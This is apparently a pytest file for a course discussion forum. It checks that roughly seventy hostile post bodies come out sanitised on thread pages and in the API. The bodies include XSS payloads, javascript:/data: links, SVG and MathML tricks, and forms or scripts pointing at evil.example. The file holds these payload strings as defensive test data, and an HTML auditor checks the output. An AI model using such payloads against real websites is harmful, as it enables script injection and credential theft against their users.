"""A corpus of hostile posts: none reaches a page (or the API) unsanitised.

Each is posted, then the thread page is parsed: no script but our own, no event handler, no style, no
javascript:, data: or vbscript: address, no SVG, MathML, frame, object or form from a post.
"""

from __future__ import annotations

from collections.abc import Callable
from html.parser import HTMLParser

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from app.accounts.models import User
from app.markdown import render_post
from app.refs import encode as ref
from tests.discussions.conftest import World, reply, start

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">CLICK</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="https://evil.example"><input name=password></form>',
    "<button formaction=javascript:alert(1)>x</button>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href="&#106;avascript:alert(1)">entity</a>',
    '<a href=" javascript:alert(1)">space</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](  javascript:alert(1)  )",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1))",
    "[x](javascript&#58;alert(1))",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](https://tracker.example/pixel.gif)",
    "[a][ref]\n\n[ref]: javascript:alert(1)",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    '<table background="javascript:alert(1)">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<a href="https://example.org" onclick="alert(1)">ok link</a>',
    '<a href="https://example.org" target="_top">target</a>',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "**bold<script>alert(1)</script>**",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "{{ 7*7 }} {% raw %}{% endraw %}",
    "<img src=/media/x onerror=alert(1)>",
    '<a href="//evil.example">protocol-relative</a>',
    "\u202eexe.txt <script>alert(1)</script>",
    "<x onmouseover=alert(1)>hover</x>",
    '[a fair link](https://example.org/page "a title" ) next to [a bad one](javascript:alert(1))',
    "<https://example.org/autolink> and <mailto:someone@example.org>",
]

DANGEROUS_TAGS = {"script", "style", "svg", "math", "iframe", "object", "embed", "form", "input", "button",
                  "select", "textarea", "base", "meta", "link", "video", "audio", "source", "template", "img",
                  "marquee", "details", "body", "noscript", "frame", "frameset", "keygen", "isindex"}  # fmt: skip
BAD_SCHEMES = ("javascript:", "data:", "vbscript:")


def test_the_corpus_is_big_enough() -> None:
    assert len(HOSTILE) >= 50


class Audit(HTMLParser):
    """Collects what is wrong inside post bodies (and anywhere on the page, for handlers and schemes)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.depth = 0  # inside a post body
        self.problems: list[str] = []
        self.bodies = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = dict(attrs)
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}>")
            if value and name in ("href", "src", "action", "formaction", "xlink:href", "background"):
                if value.strip().lower().replace("\t", "").startswith(BAD_SCHEMES):
                    self.problems.append(f"<{tag} {name}={value}>")
        if tag == "script" and not (names.get("src") or "").startswith("/static/"):
            self.problems.append("inline script")
        if self.depth:
            self.depth += 1
            if tag in DANGEROUS_TAGS:
                self.problems.append(f"<{tag}> in a post")
            if "style" in names:
                self.problems.append(f"style on <{tag}>")
            if tag == "a" and not (names.get("href") or "").startswith(("https://", "http://", "mailto:")):
                self.problems.append(f"odd link {names.get('href')}")
            if tag == "a" and "nofollow" not in (names.get("rel") or ""):
                self.problems.append("a link without rel=nofollow")
        elif tag == "div" and "post-body" in (names.get("class") or ""):
            self.depth = 1
            self.bodies += 1

    def handle_endtag(self, tag: str) -> None:
        if self.depth:
            self.depth -= 1


@pytest.mark.parametrize("text", HOSTILE)
def test_each_renders_harmless(text: str) -> None:
    audit = Audit()
    audit.feed(f'<div class="post-body">{render_post(text)}</div>')
    assert audit.problems == [], text


def test_the_thread_page_and_the_api_carry_none_of_it(
    session: Session, world: World, browser_of: Callable[[User], TestClient]
) -> None:
    thread, _first = start(session, world.aigul, lesson=world.lesson, title="<script>alert('title')</script>")
    for text in HOSTILE:
        reply(session, world.bermet, thread, body=text)
    reader = browser_of(world.cholpon)
    pages = [reader.get(f"/threads/{ref(thread.id)}?page={n}").text for n in (1, 2)]
    seen = 0
    for html in pages:
        audit = Audit()
        audit.feed(html)
        assert audit.problems == []
        seen += audit.bodies
        assert "<script>alert" not in html
    assert seen == len(HOSTILE) + 1
    assert any('href="https://example.org/page"' in html for html in pages)  # fair links survive, audited
    board = reader.get(f"/discussions/courses/{world.course.slug}").text
    assert "<script>alert('title')" not in board and "&lt;script&gt;" in board
    api = reader.get(f"/api/v1/threads/{ref(thread.id)}").json()
    for post in api["posts"]:
        audit = Audit()
        audit.feed(f'<div class="post-body">{post["body_html"]}</div>')
        assert audit.problems == [], post["body_html"]
